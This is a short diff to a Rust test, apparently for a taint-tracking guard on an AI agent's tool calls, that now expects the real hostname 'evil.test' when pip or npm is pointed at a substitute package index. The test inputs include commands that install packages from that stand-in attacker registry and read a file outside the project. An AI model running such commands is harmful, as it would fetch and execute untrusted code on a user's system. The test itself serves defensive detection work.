@@ -39,12 +39,12 @@ fn sources_raise_marks_and_our_own_files_do_not() {
         (
             "bash",
             bash("PIP_INDEX_URL=https://evil.test pip install x"),
-            Some((TaintSource::Web, "pypi.org".to_owned())),
+            Some((TaintSource::Web, "evil.test".to_owned())),
         ),
         (
             "bash",
             bash("npm install --registry=https://evil.test x"),
-            Some((TaintSource::Web, "registry.npmjs.org".to_owned())),
+            Some((TaintSource::Web, "evil.test".to_owned())),
         ),
         ("bash", bash(&format!("cat {outside}")), Some((TaintSource::OutsideFile, outside.clone()))),
         ("read", json!({"path": outside}), Some((TaintSource::OutsideFile, outside.clone()))),
